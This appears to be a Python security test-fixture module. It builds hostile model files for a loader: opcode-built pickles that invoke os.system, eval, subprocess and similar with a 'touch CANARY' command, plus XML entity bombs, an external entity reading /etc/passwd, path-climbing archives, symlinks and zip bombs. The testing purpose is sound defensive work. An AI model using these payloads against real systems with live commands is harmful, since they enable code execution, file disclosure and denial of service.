"""Files that want something: each makes one under a folder and gives back the path that a person would open.

None of them is ever run here. Pickles are put together opcode by opcode; what they would do, if somebody ran them, is to create
a file named CANARY in the current folder.
"""

from __future__ import annotations

import io
import json
import os
import pickletools
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

CANARY = "CANARY"
COMMAND = f"touch {CANARY}"
PYTHON = f"open('{CANARY}', 'w')"

Maker = Callable[[Path], Path]
HOSTILE: dict[str, Maker] = {}


def hostile(make: Maker) -> Maker:
    """Register a maker under its name."""
    HOSTILE[make.__name__.replace("_", " ")] = make
    return make


# Pieces of pickles


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module: str, name: str, *args: bytes) -> bytes:
    return named(module, name) + b"(" + b"".join(args) + b"tR"


SYSTEM = call("os", "system", text(COMMAND))


def pickle(*parts: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + b"".join(parts) + b"."


def _payloads() -> dict[str, bytes]:
    evaluated = text(PYTHON)
    return {
        "os.system": pickle(SYSTEM),
        "posix.system": pickle(call("posix", "system", text(COMMAND))),
        "nt.system": pickle(call("nt", "system", text(COMMAND))),
        "builtins.eval": pickle(call("builtins", "eval", evaluated)),
        "builtins.exec": pickle(call("builtins", "exec", evaluated)),
        "builtins of Python 2": pickle(call("__builtin__", "execfile", evaluated)),
        "builtins.open": pickle(call("builtins", "open", text(CANARY), text("w"))),
        "builtins.__import__": pickle(call("builtins", "__import__", text("os"))),
        "a chain of getattr": pickle(
            call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system")) + b"(" + text(COMMAND) + b"tR"
        ),
        "subprocess.Popen by NEWOBJ": pickle(named("subprocess", "Popen") + b"(" + text(COMMAND) + b"t\x81"),
        "subprocess.Popen by NEWOBJ_EX": pickle(
            named("subprocess", "Popen") + b"(" + text(COMMAND) + b"t}" + text("shell") + b"\x88s\x92", protocol=4
        ),
        "subprocess.check_output by INST": pickle(b"(" + text(COMMAND) + b"isubprocess\ncheck_output\n"),
        "os.system by OBJ": pickle(b"(" + named("os", "system") + text(COMMAND) + b"o"),
        "os.system by STACK_GLOBAL": pickle(text("os") + text("system") + b"\x93(" + text(COMMAND) + b"tR", protocol=4),
        "os.system in protocol 0": b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.",
        "a dotted name": pickle(text("collections") + text("OrderedDict.fromkeys.__globals__") + b"\x93", protocol=4),
        "os.system within a list": pickle(b"](" + SYSTEM + b"e"),
        "os.system as a value": pickle(b"}" + text("params") + SYSTEM + b"s"),
        "os.system as a key": pickle(b"}" + SYSTEM + text("params") + b"s"),
        "os.system in a set": pickle(b"\x8f(" + SYSTEM + b"\x90", protocol=4),
        "os.system as an argument of OrderedDict": pickle(call("collections", "OrderedDict", SYSTEM)),
        "os.system as a state": pickle(named("network", "Generator") + b")\x81" + SYSTEM + b"b"),
        "os.system as a reference": pickle(SYSTEM + b"Q"),
        "a __setstate__ of its own": pickle(call("builtins", "setattr", text("x"), text("__setstate__"), named("os", "system"))),
        "copyreg.add_extension": pickle(call("copyreg", "add_extension", text("os"), text("system"), b"K\x01")),
        "an extension code": pickle(b"\x82\x01(" + text(COMMAND) + b"tR"),
        "runpy.run_path": pickle(call("runpy", "run_path", text("x.py"))),
        "importlib.import_module": pickle(call("importlib", "import_module", text("antigravity"))),
        "ctypes.CDLL": pickle(call("ctypes", "CDLL", text("libc.so.6"))),
        "marshal.loads": pickle(call("marshal", "loads", b"C\x01N")),
        "pickle.loads": pickle(call("pickle", "loads", b"C\x02N.")),
        "types.FunctionType": pickle(named("types", "FunctionType")),
        "functools.partial of os.system": pickle(call("functools", "partial", named("os", "system"), text(COMMAND)) + b")R"),
        "operator.methodcaller": pickle(call("operator", "methodcaller", text("system"), text(COMMAND))),
        "webbrowser.open": pickle(call("webbrowser", "open", text("file:///etc/passwd"))),
        "socket.create_connection": pickle(call("socket", "create_connection", b"(" + text("127.0.0.1") + b"K\x50t")),
        "shutil.rmtree": pickle(call("shutil", "rmtree", text("x"))),
        "pip.main": pickle(call("pip", "main", b"](" + text("install") + text("x") + b"e")),
        "torch.hub.load": pickle(call("torch.hub", "load", text("x/y"), text("z"))),
        "torch.load": pickle(call("torch", "load", text("x"))),
        "torch.ops.load_library": pickle(call("torch.ops", "load_library", text("x.so"))),
        "numpy.load": pickle(call("numpy", "load", text("x.npy"))),
        "numpy's runstring": pickle(call("numpy.testing._private.utils", "runstring", evaluated, b"}")),
        "timeit.timeit": pickle(call("timeit", "timeit", evaluated)),
        "a name with a line in it": pickle(text("os\nsystem") + text("x") + b"\x93", protocol=4),
        "a number that is called": pickle(b"K\x05)R"),
        "a tensor made by os.system": pickle(
            call(
                "torch._tensor",
                "_rebuild_from_type_v2",
                named("os", "system"),
                named("torch", "Tensor"),
                b"(" + text("x") + b"t",
                b"N",
            )
        ),
        # Sizes and structures
        "a text of 2**62 bytes": pickle(b"\x8d" + struct.pack("<Q", 1 << 62), protocol=4),
        "bytes of 2**62 bytes": pickle(b"\x8e" + struct.pack("<Q", 1 << 62), protocol=4),
        "a bytearray of 2**40 bytes": pickle(b"\x96" + struct.pack("<Q", 1 << 40), protocol=5),
        "a frame of 2**60 bytes": pickle(b"\x95" + struct.pack("<Q", 1 << 60) + b"N", protocol=4),
        "an integer of 2**31 bytes": pickle(b"\x8b" + struct.pack("<i", -(1 << 31))),
        "an integer of a million digits": b"(lI" + b"9" * 1_000_000 + b"\na.",
        "a protocol of the future": pickle(b"N", protocol=77),
        "bytes from outside": pickle(b"\x97", protocol=5),
        "a recalled nothing": pickle(b"h\x05"),
        "nothing to pop": pickle(b"0"),
        "a mark that is missing": pickle(b"e"),
        "no end": b"\x80\x02}" + text("params"),
        "a tuple doubled a hundred times as a key": pickle(b"}K\x01" + b"2\x86" * 100 + b"Ns"),
        "half a million lists in each other": pickle(b"]" * 500_000 + b"a" * 499_999),
        "half a million tuples in each other": pickle(b")" + b"\x85" * 500_000),
        "a list that holds itself": pickle(b"]q\x00h\x00a"),
        "a dict that holds itself": pickle(b"}q\x00" + text("params") + b"h\x00s"),
        "lists of lists, each ten times": pickle(
            b"]q\x00" + b"".join(b"](" + b"h%c" % n * 10 + b"eq%c" % (n + 1) for n in range(60))
        ),
        "five million nothings": pickle(b"N0" * 2_500_000),
        "keys that collide": pickle(b"}(" + b"".join(_long(n * ((1 << 61) - 1) << 8) + b"N" for n in range(1, 20_000)) + b"u"),
        "a hundred thousand copies of a text": pickle(
            text("x" * 100_000) + b"q\x00" + (named("_codecs", "encode") + b"h\x00" + text("latin1") + b"\x86R") * 20_000
        ),
        "an array of objects": pickle(_array(b"K\x01", "O8", b"](Ne")),
        "an array of 2**60 numbers": pickle(_array(_long(1 << 60), "f4", b"C\x04abcd")),
        "an array of minus four numbers": pickle(_array(_long(-4), "f4", b"C\x04abcd")),
        "an array format that is no format": pickle(_array(b"K\x01", "f99999999999", b"C\x04abcd")),
        "an array without bytes": pickle(_array(b"K\x02", "f4", b"C\x04abcd")),
        "a torch container in itself": _nested(20),
        "modules doubled sixty times": pickle(b"}(" + text("G_ema") + _doubled(60) + text("model") + b"h\x3cu"),
        "a module that holds itself": pickle(b"}" + text("G_ema") + _module(b"", put=0, own=True) + b"s"),
        "a reference in a plain pickle": pickle(b"(" + text("storage") + named("torch", "FloatStorage") + text("0") + b"tQ"),
    }


def _long(value: int) -> bytes:
    raw = value.to_bytes(16, "little", signed=True)
    return b"\x8a\x10" + raw


def _array(shape: bytes, code: str, data: bytes) -> bytes:
    made = call("numpy.core.multiarray", "_reconstruct", named("numpy", "ndarray"), b"K\x00\x85", b"C\x01b")
    form = call("numpy", "dtype", text(code), b"\x89", b"\x88")
    return made + b"(K\x01" + shape + b"\x85" + form + b"\x89" + data + b"tb"


def _module(children: bytes, put: int, own: bool = False) -> bytes:
    """A pickled module of the class Generator, remembered as `put`; `children` are names and modules, `own` makes it its own."""
    made = named("training.networks", "Generator") + b")\x81q" + bytes([put])
    parts = text("_parameters") + b"}" + text("_buffers") + b"}" + text("_modules") + b"}("
    return made + b"}(" + parts + children + (text("me") + b"h" + bytes([put]) if own else b"") + b"uub"


def _doubled(levels: int) -> bytes:
    """Each module holds the one before twice; the last is remembered as `levels`."""
    made = _module(b"", 0)
    for level in range(1, levels + 1):
        made += b"0" + _module(text("a") + b"h%c" % (level - 1) + text("b") + b"h%c" % (level - 1), level)
    return made


def _chain(*pickles: bytes) -> bytes:
    magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
    system = pickle(b"}(" + text("protocol_version") + b"M\xe9\x03" + text("little_endian") + b"\x88u")
    return b"".join((magic, pickle(b"M\xe9\x03"), system, *pickles))


def _nested(depth: int) -> bytes:
    raw = pickle(b"N")
    for _ in range(depth):
        inner = _chain(raw, pickle(b"]"))
        raw = pickle(call("torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(inner)) + inner), protocol=3)
    return raw


PAYLOADS = _payloads()


def plain(name: str) -> Maker:
    def make(folder: Path) -> Path:
        path = folder / "network.pkl"
        path.write_bytes(PAYLOADS[name])
        return path

    return make


HOSTILE.update({name: plain(name) for name in PAYLOADS})

# torch's containers


def torch_zip(path: Path, directory: bytes, extra: dict[str, bytes] | None = None, compress: bool = False) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", directory)
        archive.writestr("archive/version", b"3\n")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return path


def storage(count: bytes, form: str = "FloatStorage", key: str = "0") -> bytes:
    return b"(" + text("storage") + named("torch", form) + text(key) + text("cpu") + count + b"tQ"


def tensor(source: bytes, offset: bytes, size: bytes, stride: bytes) -> bytes:
    return call("torch._utils", "_rebuild_tensor_v2", source, offset, size, stride, b"\x89", call("collections", "OrderedDict"))


def one_tensor(made: bytes) -> bytes:
    return pickle(b"}" + text("params") + b"}(" + text("body.0.weight") + made + text("body.1.weight") + made + b"uss")


def _single(name: str, made: bytes, extra: dict[str, bytes] | None = None, compress: bool = False) -> None:
    def make(folder: Path) -> Path:
        return torch_zip(folder / "model.pth", one_tensor(made), extra or {"archive/data/0": bytes(16)}, compress)

    HOSTILE[name] = make


BIG = b"\x8a\x08" + struct.pack("<q", 1 << 40)
MINUS = b"\x8a\x01\xff"
_single("a tensor of 2**40 numbers from four", tensor(storage(b"K\x04"), b"K\x00", BIG + b"\x85", b"K\x00\x85"))
_single("a tensor that reaches beyond its storage", tensor(storage(b"K\x04"), b"K\x02", b"K\x04\x85", b"K\x01\x85"))
_single("a tensor that begins before its storage", tensor(storage(b"K\x04"), MINUS, b"K\x02\x85", b"K\x01\x85"))
_single("a tensor with a step of minus one", tensor(storage(b"K\x04"), b"K\x03", b"K\x02\x85", MINUS + b"\x85"))
_single("a storage of 2**40 numbers from sixteen bytes", tensor(storage(BIG), b"K\x00", b"K\x04\x85", b"K\x01\x85"))
_single("a storage that is missing", tensor(storage(b"K\x04", key="77"), b"K\x00", b"K\x04\x85", b"K\x01\x85"))
_single("a storage named like a path", tensor(storage(b"K\x04", key="../../../etc/passwd"), b"K\x00", b"K\x04\x85", b"K\x01\x85"))
_single("quantised numbers", tensor(storage(b"K\x04", form="QInt8Storage"), b"K\x00", b"K\x04\x85", b"K\x01\x85"))
_single("a tensor without a storage", tensor(b"N", b"K\x00", b"K\x04\x85", b"K\x01\x85"))
_single("a sparse tensor", call("torch._utils", "_rebuild_sparse_tensor", named("torch", "sparse_coo"), b"(tt"[:1] + b"t"))
_single(
    "a zip bomb of numbers",
    tensor(storage(b"J" + struct.pack("<i", 100 << 20)), b"K\x00", b"K\x04\x85", b"K\x01\x85"),
    {"archive/data/0": bytes(400 << 20)},
    compress=True,
)


@hostile
def a_zip_bomb_of_a_directory(folder: Path) -> Path:
    return torch_zip(folder / "model.pth", b"N0" * (150 << 20), compress=True)


@hostile
def os_system_in_a_torch_zip(folder: Path) -> Path:
    return torch_zip(folder / "model.pth", pickle(b"}" + text("state_dict") + SYSTEM + b"s"))


@hostile
def a_torchscript_program(folder: Path) -> Path:
    return torch_zip(folder / "model.pt", pickle(b"N"), {"archive/constants.pkl": b"N.", "archive/code/x.py": PYTHON.encode()})


@hostile
def a_torch_zip_of_a_big_endian_machine(folder: Path) -> Path:
    return torch_zip(folder / "model.pth", pickle(b"}"), {"archive/byteorder": b"big"})


@hostile
def a_torch_zip_with_two_directories(folder: Path) -> Path:
    path = torch_zip(folder / "model.pth", pickle(b"}"))
    with zipfile.ZipFile(path, "a") as archive, _no_warning():
        archive.writestr("archive/data.pkl", pickle(SYSTEM))
    return path


def _no_warning():  # noqa: ANN202
    import warnings

    caught = warnings.catch_warnings()
    warnings.simplefilter("ignore")
    return caught


@hostile
def a_torch_zip_with_a_wrong_checksum(folder: Path) -> Path:
    source = folder / "model.pth"
    torch.save({"params": {"body.0.weight": torch.ones(64, 3, 3, 3), "body.1.weight": torch.ones(64)}}, source)
    raw = bytearray(source.read_bytes())
    at = raw.index(struct.pack("<f", 1.0) * 8)
    raw[at] ^= 0x40
    source.write_bytes(raw)
    return source


@hostile
def hundreds_of_blocks_in_one_storage(folder: Path) -> Path:
    shared = torch.zeros(16 * 64 * 9)
    made = {"conv_first.weight": shared[: 16 * 27].view(16, 3, 3, 3), "conv_last.weight": shared[: 16 * 27].view(3, 16, 3, 3)}
    for block in range(300):
        for dense in (1, 2, 3):
            for k in range(1, 6):
                width = 16 + 8 * (k - 1)
                outputs = 16 if k == 5 else 8
                made[f"body.{block}.rdb{dense}.conv{k}.weight"] = shared[: outputs * width * 9].view(outputs, width, 3, 3)
                made[f"body.{block}.rdb{dense}.conv{k}.bias"] = shared[:outputs]
    for name in ("conv_first", "conv_body", "conv_hr", "conv_last"):
        made[f"{name}.bias"] = shared[: 3 if name == "conv_last" else 16]
    for name in ("conv_body", "conv_hr"):
        made[f"{name}.weight"] = shared[: 16 * 16 * 9].view(16, 16, 3, 3)
    torch.save(made, folder / "model.pth")
    return folder / "model.pth"


@hostile
def hundreds_of_modules_in_one_storage(folder: Path) -> Path:
    shared = torch.zeros(512, 512)
    made = {f"mapping.fc{n}.weight": shared[:] for n in range(400)} | {f"mapping.fc{n}.bias": shared[0] for n in range(400)}
    made |= {"synthesis.b4.conv1.weight": shared[:].view(512, 512, 1, 1), "synthesis.b4.const": shared[:].view(16384, 4, 4)}
    torch.save({"G_ema": made}, folder / "network.pth")
    return folder / "network.pth"


@hostile
def a_block_with_a_number_of_nine_digits(folder: Path) -> Path:
    torch.save({f"body.{n}.rdb1.conv1.weight": torch.ones(4, 4, 3, 3) for n in (0, 999_999_999)}, folder / "model.pth")
    return folder / "model.pth"


@hostile
def weights_that_are_not_numbers(folder: Path) -> Path:
    made = {"body.0.weight": torch.full((8, 3, 3, 3), float("nan")), "body.0.bias": torch.zeros(8)}
    made |= {"body.1.weight": torch.zeros(8), "body.2.weight": torch.zeros(12, 8, 3, 3), "body.2.bias": torch.zeros(12)}
    torch.save({"params": made}, folder / "model.pth")
    return folder / "model.pth"


def _chain_file(name: str, *pickles: bytes, tail: bytes = b"") -> None:
    def make(folder: Path) -> Path:
        path = folder / "old.pth"
        path.write_bytes(_chain(*pickles) + tail)
        return path

    HOSTILE[name] = make


_ONE = one_tensor(tensor(storage(b"K\x04"), b"K\x00", b"K\x04\x85", b"K\x01\x85"))
_KEYS = pickle(b"](" + text("0") + b"e")
_chain_file("os.system in an old container", pickle(SYSTEM), pickle(b"]"))
_chain_file("an old container without numbers", _ONE, _KEYS)
_chain_file("an old container with a wrong count", _ONE, _KEYS, tail=struct.pack("<q", 1 << 50) + bytes(16))
_chain_file("an old container whose keys are strangers", _ONE, pickle(b"](" + text("9") + b"e"), tail=bytes(24))
_chain_file("an old container whose key stands twice", _ONE, pickle(b"](" + text("0") * 2 + b"e"), tail=bytes(64))
_chain_file("an old container without keys", _ONE, pickle(b"]"))
_chain_file("os.system among the keys", _ONE, pickle(b"](" + SYSTEM + b"e"))


def _tar(folder: Path, members: dict[str, bytes], links: dict[str, str]) -> Path:
    path = folder / "oldest.pth"
    with tarfile.open(path, "w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, target in links.items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            tar.addfile(info)
    return path


@hostile
def a_tar_with_os_system(folder: Path) -> Path:
    zero = pickle(b"K\x00")
    return _tar(folder, {"storages": zero + pickle(b"]"), "tensors": zero, "pickle": pickle(SYSTEM)}, {})


@hostile
def a_tar_with_links_to_the_system(folder: Path) -> Path:
    return _tar(folder, {"tensors": pickle(b"K\x00"), "pickle": pickle(b"}")}, {"storages": "/etc/passwd"})


@hostile
def a_tar_with_a_trillion_tensors(folder: Path) -> Path:
    many = pickle(b"\x8a\x08" + struct.pack("<q", 1 << 40))
    return _tar(folder, {"storages": many, "tensors": many, "pickle": pickle(b"}")}, {})


# safetensors


def _safetensors(name: str, header: object, data: bytes = bytes(64), length: int | None = None) -> None:
    def make(folder: Path) -> Path:
        raw = header if isinstance(header, bytes) else json.dumps(header).encode()
        path = folder / "model.safetensors"
        path.write_bytes(struct.pack("<Q", len(raw) if length is None else length) + raw + data)
        return path

    HOSTILE[name] = make


def _entry(begin: int, end: int, shape: list[object], dtype: str = "F32") -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


_safetensors("overlapping offsets", {"a": _entry(0, 64, [16]), "b": _entry(32, 64, [8])})
_safetensors("offsets with a gap", {"a": _entry(0, 16, [4]), "b": _entry(32, 64, [8])})
_safetensors("offsets beyond the file", {"a": _entry(0, 1 << 40, [1 << 38])})
_safetensors("offsets that run backwards", {"a": _entry(64, 0, [16])})
_safetensors("a shape larger than its bytes", {"a": _entry(0, 64, [1 << 30, 1 << 30])})
_safetensors("a shape of minus one", {"a": _entry(0, 64, [-1, -16])})
_safetensors("a shape that is no number", {"a": _entry(0, 64, [True] * 4 + [16])})
_safetensors("a thousand dimensions", {"a": _entry(0, 64, [1] * 1000 + [16])})
_safetensors("an unknown number format", {"a": _entry(0, 64, [16], "F31")})
_safetensors("a header of 2**39 bytes", {"a": _entry(0, 64, [16])}, length=1 << 39)
_safetensors("a header that is no JSON", b"{'a': __import__('os')}")
_safetensors("a header of a million brackets", b'{"a":' + b"[" * 1_000_000)
_safetensors("a name that stands twice", b'{"a":{"dtype":"F32","shape":[16],"data_offsets":[0,64]},"a":[]}')
_safetensors("a header that is a list", b'{"a"}')
_safetensors("metadata that are no text", {"__metadata__": {"ganvas.card": ["x"]}, "a": _entry(0, 64, [16])})
_safetensors("a card that is no card", {"__metadata__": {"ganvas.card": "[" * 100_000}, "a": _entry(0, 64, [16])})


def _card(name: str, family: str, config: dict[str, object]) -> None:
    card = {"name": "x", "title": "x", "task": "upscaling", "family": family, "config": config, "scale": 2}
    _safetensors(name, {"__metadata__": {"ganvas.card": json.dumps(card)}, "a": _entry(0, 64, [16])})


_card("a card that asks for a billion blocks", "esrgan", {"blocks": 10**9, "channels_in": 3})
_card("a card that asks for a billion layers", "compact", {"inner": 10**9, "features": 64, "channels": 3, "shuffle": 2})
_card("a card of an endless encoder", "spade", {"encoder": [8] * 100_000})
_card("a card of a family that is a module", "os", {})
_card("a card of a family that is a path", "../../evil", {})

# ncnn and OpenVINO


def _ncnn(name: str, lines: list[str], numbers: bytes = bytes(64), count: int | None = None) -> None:
    def make(folder: Path) -> Path:
        layers = len(lines) if count is None else count
        (folder / "model.param").write_text("\n".join(["7767517", f"{layers} {layers}", *lines]) + "\n")
        (folder / "model.bin").write_bytes(numbers)
        return folder / "model.param"

    HOSTILE[name] = make


_INPUT = "Input in 0 1 data"
_ncnn("an ncnn convolution of 2**31 numbers", [_INPUT, "Convolution c 1 1 data out 0=64 1=3 4=1 5=1 6=2147483647"])
_ncnn("an ncnn convolution of minus four numbers", [_INPUT, "Convolution c 1 1 data out 0=64 1=3 4=1 5=1 6=-4"])
_ncnn("an ncnn convolution of 10**30 numbers", [_INPUT, f"Convolution c 1 1 data out 0=64 1=3 4=1 5=1 6={10**30}"])
_ncnn("an ncnn list of a billion layers", [_INPUT], count=10**9)
_ncnn("an ncnn layer with a million blobs", [_INPUT, "Split s 1 1000000 data a"])
_ncnn("an ncnn layer that nobody knows", [_INPUT, "Shell s 1 1 data out 0=rm"])
_ncnn("an ncnn graph that bites its tail", [_INPUT, "PReLU p 1 1 b a 0=0", "Convolution c 1 1 a b 0=0 5=1 6=0"], bytes(4))
_ncnn("an ncnn array that is shorter than it says", [_INPUT, "Eltwise e 1 1 data out -23301=1000000,1.0"])
_ncnn("an ncnn pair with numbers left over", [_INPUT, "PReLU p 1 1 data out 0=4"])
_ncnn("an ncnn pair in 8 bits", [_INPUT, "Convolution c 1 1 data out 0=4 1=1 5=0 6=4"], struct.pack("<I", 0x000D4B38) + bytes(8))


@hostile
def an_ncnn_description_alone(folder: Path) -> Path:
    (folder / "model.param").write_text(f"7767517\n1 1\n{_INPUT}\n")
    return folder / "model.param"


def _openvino(name: str, body: str, head: str = "<?xml version='1.0'?>") -> None:
    def make(folder: Path) -> Path:
        (folder / "model.xml").write_text(head + f"<net name='x' version='10'><layers>{body}</layers></net>")
        (folder / "model.bin").write_bytes(bytes(64))
        return folder / "model.xml"

    HOSTILE[name] = make


_LAUGHS = "<?xml version='1.0'?><!DOCTYPE net [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(12)
)
_openvino(
    "an OpenVINO constant of 2**60 bytes",
    f"<layer type='Const'><data element_type='f32' shape='{1 << 58}' offset='0' size='{1 << 60}'/></layer>",
)
_openvino(
    "an OpenVINO constant before the file",
    "<layer type='Const'><data element_type='f32' shape='4' offset='-64' size='16'/></layer>",
)
_openvino("a billion laughs", "<layer name='&m;'/>", _LAUGHS + "]>")
_openvino(
    "an entity of the system",
    "<layer name='&x;'/>",
    "<?xml version='1.0'?><!DOCTYPE net [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
)

# Archives, and files that are none


@hostile
def an_archive_with_paths_that_climb(folder: Path) -> Path:
    with zipfile.ZipFile(folder / "models.zip", "w") as archive:
        archive.writestr("../../../tmp/evil.pkl", pickle(SYSTEM))
    return folder / "models.zip"


@hostile
def an_archive_with_absolute_paths(folder: Path) -> Path:
    with zipfile.ZipFile(folder / "models.zip", "w") as archive:
        archive.writestr("/etc/evil.pkl", pickle(SYSTEM))
    return folder / "models.zip"


@hostile
def an_archive_that_is_cut_off(folder: Path) -> Path:
    path = torch_zip(folder / "model.pth", pickle(b"}"), {"archive/data/0": bytes(1000)})
    path.write_bytes(path.read_bytes()[:-40])
    return path


@hostile
def an_archive_whose_directory_lies(folder: Path) -> Path:
    path = torch_zip(
        folder / "model.pth",
        one_tensor(tensor(storage(b"K\x04"), b"K\x00", b"K\x04\x85", b"K\x01\x85")),
        {"archive/data/0": bytes(16)},
    )
    raw = bytearray(path.read_bytes())
    at = raw.rindex(b"archive/data/0") - 46
    raw[at + 20 : at + 28] = struct.pack("<II", 0xFFFFFFF0, 0xFFFFFFF0)
    path.write_bytes(raw)
    return path


@hostile
def a_named_pipe(folder: Path) -> Path:
    os.mkfifo(folder / "model.pth")
    return folder / "model.pth"


@hostile
def a_link_to_a_device(folder: Path) -> Path:
    (folder / "model.pth").symlink_to("/dev/zero")
    return folder / "model.pth"


@hostile
def a_link_to_itself(folder: Path) -> Path:
    (folder / "model.pth").symlink_to(folder / "model.pth")
    return folder / "model.pth"


@hostile
def a_pipe_beside_a_network(folder: Path) -> Path:
    torch.save({"head_0.norm_0.mlp_shared.0.weight": torch.ones(2, 2, 3, 3), "x": torch.ones(1)}, folder / "latest_net_G.pth")
    os.mkfifo(folder / "opt.txt")
    return folder / "latest_net_G.pth"


@hostile
def an_encoder_with_os_system_beside_a_network(folder: Path) -> Path:
    source = torch_zip(folder / "latest_net_E.pth", pickle(SYSTEM))
    assert source.is_file()
    return folder / "latest_net_E.pth"


def _is(name: str, data: bytes) -> None:
    def make(folder: Path) -> Path:
        (folder / "model.pth").write_bytes(data)
        return folder / "model.pth"

    HOSTILE[name] = make


_is("an empty file", b"")
_is("one byte", b"\x80")
_is("a web page", b"<!DOCTYPE html><html><script>alert(1)</script></html>")
_is("a placeholder of Git LFS", b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n")
_is("a shell script", b"#!/bin/sh\n" + COMMAND.encode() + b"\n")
_is("a program", b"\x7fELF\x02\x01\x01" + bytes(200))
_is("an HDF5 file", b"\x89HDF\r\n\x1a\n" + bytes(100))
_is(
    "a numpy array of objects", b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,)}\n" + pickle(SYSTEM)
)
_is("noise", bytes((n * 197 + 31) % 256 for n in range(5000)))


def is_a_pickle(raw: bytes) -> bool:
    """Whether the standard library's own reader follows it to its end (it runs nothing)."""
    try:
        for _ in pickletools.genops(raw):
            pass
    except ValueError:
        return False
    return True
